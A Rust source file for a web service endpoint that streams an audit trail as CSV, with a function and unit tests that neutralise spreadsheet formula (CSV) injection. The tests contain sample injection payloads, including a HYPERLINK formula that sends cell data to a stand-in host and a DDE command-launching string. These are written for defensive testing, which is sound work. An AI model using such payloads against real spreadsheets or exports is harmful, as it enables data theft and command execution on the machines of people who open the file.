//! `GET /audit.csv`: the audit trail as CSV, newest first, with the audit page's filters, for
//! admins and auditors. At most 10,000 records a download (`before=<id>` continues with the
//! older ones). The records are read from the database in chunks and streamed, so an export holds
//! one chunk in memory however long the trail is. Every cell is made safe to open in a
//! spreadsheet (see `spreadsheet_safe`).

use std::borrow::Cow;
use std::sync::Arc;

use axum::body::{Body, Bytes};
use axum::extract::{Extension, Query, State};
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use axum::Router;
use futures_util::{stream, Stream, StreamExt};
use http::{header, StatusCode};
use serde::Deserialize;

use accounts::{AuditQuery, AuditRecord, AuditTrail};
use domain::audit::AuditFilters;
use domain::{ClientInfo, SignedIn};
use portal::Portal;

pub const PATH: &str = "/audit.csv";

/// Records in one download.
const MOST: i64 = 10_000;
/// Records read from the database at a time.
const CHUNK: i64 = 500;

pub fn routes(portal: Arc<Portal>) -> Router {
    Router::new().route(PATH, get(export)).with_state(portal)
}

const HEADER: [&str; 17] = [
    "id",
    "time",
    "user",
    "groups",
    "action",
    "runbook",
    "version",
    "mode",
    "role",
    "parameters",
    "targets",
    "execution_id",
    "outcome",
    "detail",
    "client_address",
    "user_agent",
    "request_id",
];

/// Where a download starts: the newest records, or those older than `before`.
#[derive(Debug, Default, Deserialize)]
#[serde(default)]
struct ExportStart {
    before: Option<i64>,
}

fn time(at: i64) -> String {
    time::OffsetDateTime::from_unix_timestamp(at)
        .ok()
        .and_then(|t| {
            t.format(&time::format_description::well_known::Rfc3339)
                .ok()
        })
        .unwrap_or_default()
}

/// A cell a spreadsheet will show as text, never evaluate. Excel, LibreOffice and Google Sheets
/// read a cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as
/// a formula, so a user name such as `=HYPERLINK(…)` would run when an auditor opens the export.
/// As OWASP recommends (CSV Injection), such a cell gets a leading `'`, which spreadsheets take as
/// "this is text"; the writer also quotes every cell. The full-width forms count too: some
/// spreadsheets in East Asian locales read `＝` as `=`.
fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `records` as CSV lines (after the header when `header`), every cell quoted and made safe.
fn csv(records: &[AuditRecord], header: bool) -> Result<Vec<u8>, csv::Error> {
    let mut out = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(Vec::new());
    if header {
        out.write_record(HEADER)?;
    }
    for r in records {
        let cells = [
            r.id.to_string(),
            time(r.at),
            r.user.clone(),
            r.groups.join(" "),
            r.action.as_str().to_owned(),
            r.runbook.clone(),
            r.version.clone(),
            r.mode.clone(),
            r.role.clone(),
            r.parameters.clone(),
            r.targets.clone(),
            r.execution_id.clone(),
            r.outcome.as_str().to_owned(),
            r.detail.clone(),
            r.client_address.clone(),
            r.user_agent.clone(),
            r.request_id.clone(),
        ];
        out.write_record(cells.iter().map(|c| spreadsheet_safe(c).into_owned()))?;
    }
    out.into_inner().map_err(|e| e.into_error().into())
}

/// The rest of an export after its first chunk.
struct Rest {
    trail: AuditTrail,
    query: AuditQuery,
    /// Records still to send.
    left: i64,
    /// Records read at a time.
    chunk: i64,
}

impl Rest {
    /// The query for the chunk after `chunk`, or `None` when the export is complete.
    fn after(mut self, chunk: &[AuditRecord]) -> Option<Self> {
        self.left -= chunk.len() as i64;
        let oldest = chunk.last()?;
        if (chunk.len() as i64) < self.query.limit || self.left <= 0 {
            return None;
        }
        self.query.before = Some(oldest.id);
        self.query.limit = self.chunk.min(self.left);
        Some(self)
    }

    /// The next chunk as CSV, and what comes after it.
    async fn read(self, header: bool) -> Result<(Bytes, Option<Self>), String> {
        let chunk = self
            .trail
            .list(&self.query)
            .await
            .map_err(|e| e.to_string())?;
        let bytes = csv(&chunk, header).map_err(|e| e.to_string())?;
        Ok((Bytes::from(bytes), self.after(&chunk)))
    }
}

/// The CSV of at most `most` records `query` selects, newest first, read `chunk` at a time. The
/// first chunk is read before answering, so a database that fails says so with a status.
async fn export_body(
    trail: AuditTrail,
    mut query: AuditQuery,
    most: i64,
    chunk: i64,
) -> Result<impl Stream<Item = Result<Bytes, String>>, String> {
    query.limit = chunk.min(most);
    let rest = Rest {
        trail,
        query,
        left: most,
        chunk,
    };
    let (first, rest) = rest.read(true).await?;
    let more = stream::try_unfold(rest, |rest| async move {
        let Some(rest) = rest else {
            return Ok(None);
        };
        rest.read(false).await.map(Some).inspect_err(|e| {
            // The status line has gone: ending the body early tells the client the file is cut.
            tracing::error!(error = %e, "the audit export stopped: the trail could not be read");
        })
    });
    Ok(stream::iter([Ok::<_, String>(first)]).chain(more))
}

async fn export(
    State(portal): State<Arc<Portal>>,
    Extension(user): Extension<SignedIn>,
    client: Option<Extension<ClientInfo>>,
    Query(filters): Query<AuditFilters>,
    Query(start): Query<ExportStart>,
) -> Response {
    let client = client.map(|Extension(c)| c).unwrap_or_default();
    let viewer = match portal.viewer(user, client, format!("GET {PATH}")) {
        Ok(viewer) => viewer,
        Err(held_back) => return crate::answer::error(held_back),
    };
    let trail = match portal.audit_trail(&viewer) {
        Ok(trail) => trail.clone(),
        Err(refused) => return crate::answer::error(refused),
    };
    let query = AuditQuery {
        user: filters.user,
        action: filters.action,
        outcome: filters.outcome,
        execution_id: filters.execution,
        before: start.before,
        ..AuditQuery::default()
    };
    let body = match export_body(trail, query, MOST, CHUNK).await {
        Ok(body) => body,
        Err(e) => {
            let message = format!(
                "The audit trail could not be read: {e}. Try again, or look at the portal's log."
            );
            return (StatusCode::INTERNAL_SERVER_ERROR, message).into_response();
        }
    };
    (
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8"),
            (
                header::CONTENT_DISPOSITION,
                "attachment; filename=\"audit.csv\"",
            ),
        ],
        Body::from_stream(body),
    )
        .into_response()
}

#[cfg(test)]
mod tests {
    use futures_util::TryStreamExt;

    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_evaluate_become_text() {
        for formula in [
            r#"=HYPERLINK("https://evil.example/?"&A2,"x")"#,
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
        ] {
            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
        }
        for text in [
            "alice",
            "",
            "1+1",
            " =1",
            "a=b",
            "'quoted",
            "arn:aws:iam::1:role/x",
        ] {
            assert_eq!(spreadsheet_safe(text), text);
        }
    }

    #[test]
    fn every_cell_is_quoted_and_made_safe() {
        let record = AuditRecord {
            id: 7,
            user: r#"=HYPERLINK("https://evil.example/?"&A2,"x")"#.into(),
            groups: vec!["-x".into()],
            action: domain::audit::Action::SignInFailed,
            user_agent: "@SUM(1)".into(),
            ..AuditRecord::default()
        };
        let text = String::from_utf8(csv(&[record], true).expect("csv")).expect("utf-8");
        let mut lines = text.lines();
        assert!(lines
            .next()
            .expect("header")
            .starts_with(r#""id","time","user""#));
        let row = lines.next().expect("row");
        assert!(
            row.starts_with(r#""7","1970-01-01T00:00:00Z","'=HYPERLINK(""https://evil.example/?""&A2,""x"")","'-x","sign-in-failed""#),
            "{row}"
        );
        assert!(row.contains(r#","'@SUM(1)","#), "{row}");
        // Read back as a spreadsheet reads it: the same values behind the quote.
        let read: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes())
            .records()
            .collect::<Result<_, _>>()
            .expect("parsed");
        assert_eq!(
            &read[0][2],
            r#"'=HYPERLINK("https://evil.example/?"&A2,"x")"#
        );
    }

    #[tokio::test]
    async fn an_export_streams_chunks_up_to_its_limit_within_the_filters() {
        let dir = std::env::temp_dir().join(format!("audit-export-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let trail = AuditTrail::new(&accounts::open(&dir).await.expect("database"));
        let mut ids = Vec::new();
        for user in ["ann", "bob"].repeat(8) {
            let record = AuditRecord {
                user: user.into(),
                action: domain::audit::Action::SignIn,
                outcome: domain::audit::Outcome::Succeeded,
                ..AuditRecord::default()
            };
            let id = trail.write(&record).await.expect("written");
            if user == "ann" {
                ids.push(id.to_string());
            }
        }
        ids.reverse();
        let export = |most, before| {
            let query = AuditQuery {
                user: "ann".into(),
                before,
                ..AuditQuery::default()
            };
            let trail = trail.clone();
            async move {
                let body = export_body(trail, query, most, 3).await.expect("export");
                let chunks: Vec<Bytes> = body.try_collect().await.expect("chunks");
                let text: Vec<u8> = chunks.concat();
                let ids: Vec<String> = csv::Reader::from_reader(text.as_slice())
                    .records()
                    .map(|r| r.expect("record")[0].to_owned())
                    .collect();
                (chunks.len(), ids)
            }
        };
        // 8 records of ann's in chunks of 3: all of them, newest first, none of bob's.
        assert_eq!(export(100, None).await, (3, ids.clone()));
        // The limit stops the export: 5 records, the last chunk cut short.
        assert_eq!(export(5, None).await, (2, ids[..5].to_vec()));
        // `before` continues where a download stopped.
        let fifth = ids[4].parse().expect("id");
        assert_eq!(export(100, Some(fifth)).await.1, ids[5..].to_vec());
        std::fs::remove_dir_all(&dir).ok();
    }
}
